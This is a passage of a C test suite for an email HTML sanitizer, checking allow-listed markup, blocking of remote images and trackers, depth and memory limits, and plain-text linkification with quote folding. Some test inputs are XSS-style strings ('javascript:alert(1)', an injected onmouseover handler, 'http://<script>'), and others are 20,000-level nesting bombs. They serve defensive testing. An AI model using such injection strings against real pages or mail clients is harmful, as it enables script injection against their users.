             "-logo@mail.example\"></p>"),
        CASE("lists", "", false,
             "<ol start=\"3\" type=\"a\"><li>one</li><li value=\"7\">two</"
             "li></ol><ul type=\"square\"><li>x</li></ul><dl><dt>t</dt><dd"
             ">d</dd></dl>",
             "<ol start=\"3\" type=\"a\"><li>one</li><li value=\"7\">two</"
             "li></ol><ul type=\"square\"><li>x</li></ul><dl><dt>t</dt><dd"
             ">d</dd></dl>"),
        CASE("quote_reply", "", false,
             "<div>On Mon, Bob wrote:<blockquote type=\"cite\" style=\"mar"
             "gin:0 0 0 .8ex;border-left:1px #ccc solid;padding-left:1ex\""
             ">Hi <a href=\"mailto:alice@example.org\">Alice</a></blockquo"
             "te></div>",
             "<div>On Mon, Bob wrote:<blockquote style=\"margin: 0 0 0 .8e"
             "x; border-left: 1px #ccc solid; padding-left: 1ex\">Hi <a hr"
             "ef=\"mailto:alice@example.org\" target=\"_blank\" rel=\"noop"
             "ener noreferrer\">Alice</a></blockquote></div>"),
        CASE("table_full", "", false,
             "<table width=\"600\" align=\"center\" bgcolor=\"#ffffff\" bo"
             "rder=\"1\"><caption>Cap</caption><colgroup><col width=\"100"
             "\" span=\"2\"></colgroup><thead><tr><th scope=\"col\" colspa"
             "n=\"2\">H</th></tr></thead><tbody><tr><td rowspan=\"1\" nowr"
             "ap align=\"right\" height=\"20\">1</td><td>2</td></tr></tbod"
             "y><tfoot><tr><td>f</td><td>g</td></tr></tfoot></table>",
             "<table width=\"600\" align=\"center\" bgcolor=\"#ffffff\" bo"
             "rder=\"1\"><caption>Cap</caption><colgroup><col width=\"100"
             "\" span=\"2\"></colgroup><thead><tr><th scope=\"col\" colspa"
             "n=\"2\">H</th></tr></thead><tbody><tr><td rowspan=\"1\" nowr"
             "ap=\"\" align=\"right\" height=\"20\">1</td><td>2</td></tr><"
             "/tbody><tfoot><tr><td>f</td><td>g</td></tr></tfoot></table>"),
        CASE("gmail_div", "", false,
             "<div dir=\"ltr\"><div class=\"gmail_default\" style=\"font-f"
             "amily:arial,sans-serif\">Hi<br><br></div><div class=\"gmail_"
             "quote\">--</div></div>",
             "<div dir=\"ltr\"><div class=\"gmail_default\" style=\"font-f"
             "amily: arial,sans-serif\">Hi<br><br></div><div class=\"gmail"
             "_quote\">--</div></div>"),
        CASE("pre_code", "", false,
             "<pre style=\"white-space: pre-wrap\"><code>if (a &lt; b) {\n"
             "\treturn;\n}</code></pre>",
             "<pre style=\"white-space: pre-wrap\"><code>if (a &lt; b) {\n"
             "\treturn;\n}</code></pre>"),
        CASE("hr_and_headings", "", false,
             "<h1 align=\"center\">Title</h1><hr size=\"1\" noshade><h3>Su"
             "b</h3><p align=\"justify\" lang=\"en\" title=\"t\">para</p>",
             "<h1 align=\"center\">Title</h1><hr size=\"1\" noshade=\"\"><"
             "h3>Sub</h3><p align=\"justify\" lang=\"en\" title=\"t\">para"
             "</p>"),
        CASE("remote_image_newsletter", "R", false,
             "<table><tr><td><a href=\"https://shop.example/\"><img src=\""
             "https://cdn.shop.example/hero.jpg\" width=\"600\" height=\"3"
             "00\" alt=\"Hero\" border=\"0\" style=\"display:block\"></a><"
             "/td></tr></table>",
             "<table><tbody><tr><td><a href=\"https://shop.example/\" targ"
             "et=\"_blank\" rel=\"noopener noreferrer\"><img width=\"600\""
             " height=\"300\" alt=\"Hero\" border=\"0\" style=\"display: b"
             "lock\" src=\"https://cdn.shop.example/hero.jpg\"></a></td></"
             "tr></tbody></table>"),
};

static const char *
test_cid_url(void *ctx, struct strv cid)
{
	struct arena *a = ctx;

	/* Unknown parts start with 'x' in these tests. */
	if (cid.len > 0 && cid.p[0] == 'x')
		return NULL;
	return arena_printf(a, "/part/%.*s", (int)cid.len, cid.p);
}

static void
opts_for(const char *flags, struct arena *a, struct sanitize_opts *o)
{
	memset(o, 0, sizeof(*o));
	o->placeholder_url = "/blocked.gif";
	o->scope_class = strchr(flags, 'N') != NULL ? NULL : "pm";
	o->cid_url = test_cid_url;
	o->cid_ctx = a;
	o->allow_remote = strchr(flags, 'R') != NULL;
}

static const char *
run(struct arena *a, const struct sanitize_opts *o, struct strv in,
    struct sanitize_report *rep)
{
	struct sbuf out;
	struct perr err = {0};

	sbuf_init(&out, a, 0, 0);
	assert_int_equal(sanitize_html(in, o, a, &out, rep, &err), 0);
	return sbuf_cstr(&out);
}

static void
test_table_exact_output(void **state)
{
	struct arena *a = arena_create("t", 4096, 0);
	size_t i;

	(void)state;
	for (i = 0; i < PT_NELEM(cases); i++) {
		struct sanitize_opts o;
		struct sanitize_report rep;
		const char *got;

		opts_for(cases[i].flags, a, &o);
		got = run(a, &o, (struct strv){cases[i].in, cases[i].in_len},
		          &rep);
		if (strcmp(got, cases[i].out) != 0)
			fail_msg("case %zu (%s):\n got: %s\nwant: %s", i,
			         cases[i].name, got, cases[i].out);
		if (rep.tracker_seen != cases[i].tracker)
			fail_msg("case %zu (%s): tracker_seen %d", i,
			         cases[i].name, rep.tracker_seen);
		arena_reset(a);
	}
	arena_destroy(&a);
}

static void
test_table_idempotent(void **state)
{
	struct arena *a = arena_create("t", 4096, 0);
	size_t i;

	(void)state;
	for (i = 0; i < PT_NELEM(cases); i++) {
		struct sanitize_opts o;
		const char *once, *twice;

		opts_for(cases[i].flags, a, &o);
		once = run(a, &o, (struct strv){cases[i].in, cases[i].in_len},
		           NULL);
		twice = run(a, &o, strv_from_cstr(once), NULL);
		if (strcmp(once, twice) != 0)
			fail_msg(
			        "case %zu (%s) not idempotent:\n 1: %s\n 2: %s",
			        i, cases[i].name, once, twice);
		arena_reset(a);
	}
	arena_destroy(&a);
}

static void
test_table_has_enough_hostile_cases(void **state)
{
	(void)state;
	/* The issue asks for at least 100 hostile inputs. */
	assert_true(PT_NELEM(cases) >= 150);
}

static void
test_report_counts_remote(void **state)
{
	struct arena *a = arena_create("t", 4096, 0);
	struct sanitize_opts o;
	struct sanitize_report rep;

	(void)state;
	opts_for("", a, &o);
	(void)run(a, &o,
	          STRV_LIT("<img src=http://a/1.png><img src=https://b/2.png>"
	                   "<p style=\"background:url(http://c/3.png)\">x</p>"
	                   "<img src=http://d/4.gif width=1>"),
	          &rep);
	assert_int_equal(rep.remote_blocked, 4);
	assert_true(rep.tracker_seen);
	arena_destroy(&a);
}

static void
test_deep_nesting_20000(void **state)
{
	struct arena *a = arena_create("t", 4096, 0);
	struct sanitize_report rep;
	struct sbuf in;
	const char *got;
	uint64_t t0;
	int i;

	(void)state;
	sbuf_init(&in, a, 0, 0);
	for (i = 0; i < 20000; i++)
		sbuf_append_cstr(&in, "<div>");
	sbuf_append_cstr(&in, "deep");
	t0 = pt_now_ms_monotonic();
	got = run(a, NULL, sbuf_view(&in), &rep);
	/* Generous even for ASan: the pre-scan keeps gumbo linear. */
	assert_true(pt_now_ms_monotonic() - t0 < 10000);
	assert_true(rep.depth_truncated);
	assert_true(strncmp(got, "<div><div>", 10) == 0);
	/* Idempotent too. */
	assert_string_equal(run(a, NULL, strv_from_cstr(got), NULL), got);
	arena_destroy(&a);
}

static void
test_deep_nesting_mixed_tags(void **state)
{
	static const char *const units[] = {"<b x=1>", "<table><tr><td>",
	                                    "<span>",  "<ul><li>",
	                                    "<a>",     "<font>"};
	struct arena *a = arena_create("t", 4096, 0);
	size_t u;
	int i;

	(void)state;
	for (u = 0; u < PT_NELEM(units); u++) {
		struct sbuf in;
		const char *got;

		sbuf_init(&in, a, 0, 0);
		for (i = 0; i < 20000; i++)
			sbuf_append_cstr(&in, units[u]);
		got = run(a, NULL, sbuf_view(&in), NULL);
		assert_string_equal(run(a, NULL, strv_from_cstr(got), NULL),
		                    got);
		arena_reset(a);
	}
	arena_destroy(&a);
}

static void
test_max_depth_drops_deeper(void **state)
{
	struct arena *a = arena_create("t", 4096, 0);
	struct sanitize_opts o = {.max_depth = 2};
	struct sanitize_report rep;

	(void)state;
	assert_string_equal(
	        run(a, &o, STRV_LIT("<div>a<p>b<b>c</b>d</p>e</div>"), &rep),
	        "<div>a<p>bd</p>e</div>");
	assert_true(rep.depth_truncated);
	arena_destroy(&a);
}

static void
test_max_output_is_limit_error(void **state)
{
	struct arena *a = arena_create("t", 4096, 0);
	struct sanitize_opts o = {.max_output = 10};
	struct sbuf out;
	struct perr err = {0};

	(void)state;
	sbuf_init(&out, a, 0, 0);
	assert_int_equal(sanitize_html(STRV_LIT("<p>0123456789abc</p>"), &o, a,
	                               &out, NULL, &err),
	                 -1);
	assert_int_equal(err.kind, PERR_LIMIT);
	arena_destroy(&a);
}

static void
test_parse_memory_limit(void **state)
{
	struct arena *a = arena_create("t", 4096, 0);
	struct sanitize_opts o = {.max_parse_mem = 64 * 1024};
	struct sbuf in, out;
	struct perr err = {0};
	int i;

	(void)state;
	sbuf_init(&in, a, 0, 0);
	for (i = 0; i < 20000; i++)
		sbuf_append_cstr(&in, "<p class=x>text</p>");
	sbuf_init(&out, a, 0, 0);
	assert_int_equal(sanitize_html(sbuf_view(&in), &o, a, &out, NULL, &err),
	                 -1);
	assert_int_equal(err.kind, PERR_LIMIT);
	arena_destroy(&a);
}

static void
test_bad_scope_class_rejected(void **state)
{
	struct arena *a = arena_create("t", 4096, 0);
	struct sanitize_opts o = {.scope_class = "a b{}"};
	struct sbuf out;
	struct perr err = {0};

	(void)state;
	sbuf_init(&out, a, 0, 0);
	assert_int_equal(sanitize_html(STRV_LIT("x"), &o, a, &out, NULL, &err),
	                 -1);
	assert_int_equal(err.kind, PERR_INPUT);
	arena_destroy(&a);
}

static void
test_no_cid_callback_keeps_cid(void **state)
{
	struct arena *a = arena_create("t", 4096, 0);

	(void)state;
	assert_string_equal(
	        run(a, NULL, STRV_LIT("<img src=\"CID:a@b\">"), NULL),
	        "<img src=\"CID:a@b\">");
	arena_destroy(&a);
}

static void
test_blocked_without_placeholder(void **state)
{
	struct arena *a = arena_create("t", 4096, 0);

	(void)state;
	assert_string_equal(
	        run(a, NULL, STRV_LIT("<img src=\"https://x/a.png\">"), NULL),
	        "<img data-petrel-src=\"https://x/a.png\">");
	arena_destroy(&a);
}

/* ---- plain text ------------------------------------------------------- */

static const struct {
	const char *in, *out;
} plain_cases[] = {
        {"", ""},
        {"hello", "hello"},
        {"a <b> & \"c\"", "a &lt;b&gt; &amp; &quot;c&quot;"},
        {"one\ntwo\r\nthree\rfour", "one<br>\ntwo<br>\nthree<br>\nfour"},
        {"see https://example.org/a?b=1&c=2.",
         "see <a href=\"https://example.org/a?b=1&amp;c=2\" target=\"_blank\" "
         "rel=\"noopener noreferrer\">https://example.org/a?b=1&amp;c=2</a>."},
        {"(www.example.org/x)",
         "(<a href=\"http://www.example.org/x\" target=\"_blank\" "
         "rel=\"noopener noreferrer\">www.example.org/x</a>)"},
        {"wiki http://e.org/A_(b) end",
         "wiki <a href=\"http://e.org/A_(b)\" target=\"_blank\" "
         "rel=\"noopener noreferrer\">http://e.org/A_(b)</a> end"},
        {"mail bob.smith@example.co.uk, now",
         "mail <a href=\"mailto:bob.smith@example.co.uk\" target=\"_blank\" "
         "rel=\"noopener noreferrer\">bob.smith@example.co.uk</a>, now"},
        {"not@mail and @x.y", "not@mail and @x.y"},
        {"javascript:alert(1) http://x\"onmouseover=alert(1)",
         "javascript:alert(1) <a href=\"http://x\" target=\"_blank\" "
         "rel=\"noopener noreferrer\">http://x</a>&quot;onmouseover=alert(1)"},
        {"http://<script>", "http://&lt;script&gt;"},
        {"> quoted\n>> deeper\n> back\nout",
         "<blockquote type=\"cite\">quoted<blockquote type=\"cite\">deeper"
         "</blockquote>back</blockquote>out"},
        {"> > spaced", "<blockquote type=\"cite\"><blockquote type=\"cite\">"
                       "spaced</blockquote></blockquote>"},
        {"  indented  text", "&nbsp;&nbsp;indented &nbsp;text"},
        {"tab\there", "tab&nbsp;&nbsp;&nbsp;&nbsp;here"},
        {"ctl\x01\x7f", "ctl"},
};

static void
test_plain_to_html(void **state)
{
	struct arena *a = arena_create("t", 4096, 0);
	size_t i;

	(void)state;
	for (i = 0; i < PT_NELEM(plain_cases); i++) {
		struct sbuf out;
		struct perr err = {0};

		sbuf_init(&out, a, 0, 0);
		assert_int_equal(sanitize_plain_to_html(
		                         strv_from_cstr(plain_cases[i].in),
		                         NULL, a, &out, &err),
		                 0);
		if (strcmp(sbuf_cstr(&out), plain_cases[i].out) != 0)
			fail_msg("plain case %zu:\n got: %s\nwant: %s", i,
			         sbuf_cstr(&out), plain_cases[i].out);
	}
	arena_destroy(&a);
}

static void
test_plain_limit(void **state)
{
	struct arena *a = arena_create("t", 4096, 0);
	struct sbuf out;
	struct perr err = {0};

	(void)state;
	sbuf_init(&out, a, 0, 0);
	struct sanitize_plain_opts o = {.max_output = 5};

	assert_int_equal(sanitize_plain_to_html(STRV_LIT("0123456789"), &o, a,
	                                        &out, &err),
	                 -1);
	assert_int_equal(err.kind, PERR_LIMIT);
	arena_destroy(&a);
}

#define Q "<blockquote type=\"cite\">"
#define FOLD(n) "<details class=\"petrel-quote\"><summary>" n "</summary>"

static const struct {
	const char *in, *out;
} fold_cases[] = {
        /* at most fold_lines (3) quoted lines stay open */
        {"a\n> 1\n> 2\n> 3\nb", "a" Q "1<br>\n2<br>\n3</blockquote>b"},
        /* more are folded, nested levels inside one fold */
        {"On Monday Bob wrote:\n> 1\n>> 2\n>> 3\n> 4\nthanks",
         "On Monday Bob wrote:" FOLD("Quoted &lt;4&gt; &amp; 4") Q
         "1" Q "2<br>\n3</blockquote>4</blockquote></details>thanks"},
        /* CRLF, a quote at the very end, two blocks counted apart */
        {"> a\r\n> b\r\n\r\n> c\r\n> d\r\n> e\r\n> f",
         Q "a<br>\nb</blockquote>" FOLD("Quoted &lt;4&gt; &amp; 4") Q
         "c<br>\nd<br>\ne<br>\nf</blockquote></details>"},
        /* text in the quote is escaped as always */
        {"> <i>\n> 2\n> 3\n> 4", FOLD("Quoted &lt;4&gt; &amp; 4") Q
         "&lt;i&gt;<br>\n2<br>\n3<br>\n4</blockquote></details>"},
};

/* s without every occurrence of cut. */
static const char *
without(const char *s, const char *cut, struct arena *a)
{
	struct sbuf b;
	const char *p;

	sbuf_init(&b, a, 0, 0);
	while ((p = strstr(s, cut)) != NULL) {
		sbuf_append(&b, s, (size_t)(p - s));
		s = p + strlen(cut);
	}
	sbuf_append_cstr(&b, s);
	return sbuf_cstr(&b);
}

static void
test_plain_folds_long_quotes(void **state)
{
	struct arena *a = arena_create("t", 4096, 0);
	struct sanitize_plain_opts o = {.fold_lines = 3,
	                                .fold_label = "Quoted <{n}> & {n}"};
	size_t i;

	(void)state;
	for (i = 0; i < PT_NELEM(fold_cases); i++) {
		struct sbuf out, again;
		struct perr err = {0};
		struct sanitize_opts so;

		sbuf_init(&out, a, 0, 0);
		assert_int_equal(
		        sanitize_plain_to_html(strv_from_cstr(fold_cases[i].in),
		                               &o, a, &out, &err),
		        0);
		if (strcmp(sbuf_cstr(&out), fold_cases[i].out) != 0)
			fail_msg("fold case %zu:\n got: %s\nwant: %s", i,
			         sbuf_cstr(&out), fold_cases[i].out);
		/*
		 * The markup is on the HTML allow-list: kept as it is, but
		 * for blockquote's type (not an allowed attribute).
		 */
		memset(&so, 0, sizeof(so));
		sbuf_init(&again, a, 0, 0);
		assert_int_equal(sanitize_html(sbuf_view(&out), &so, a, &again,
		                               NULL, &err),
		                 0);
		if (strcmp(sbuf_cstr(&again),
		           without(fold_cases[i].out, " type=\"cite\"", a)) !=
		    0)
			fail_msg(
			        "fold case %zu, sanitized:\n got: %s\nwant: %s",
			        i, sbuf_cstr(&again), fold_cases[i].out);
	}
	arena_destroy(&a);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
	        cmocka_unit_test(test_table_exact_output),
	        cmocka_unit_test(test_table_idempotent),
	        cmocka_unit_test(test_table_has_enough_hostile_cases),
	        cmocka_unit_test(test_report_counts_remote),
	        cmocka_unit_test(test_deep_nesting_20000),
	        cmocka_unit_test(test_deep_nesting_mixed_tags),
	        cmocka_unit_test(test_max_depth_drops_deeper),
	        cmocka_unit_test(test_max_output_is_limit_error),
	        cmocka_unit_test(test_parse_memory_limit),
	        cmocka_unit_test(test_bad_scope_class_rejected),
	        cmocka_unit_test(test_no_cid_callback_keeps_cid),
	        cmocka_unit_test(test_blocked_without_placeholder),
	        cmocka_unit_test(test_plain_to_html),
	        cmocka_unit_test(test_plain_folds_long_quotes),
	        cmocka_unit_test(test_plain_limit),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
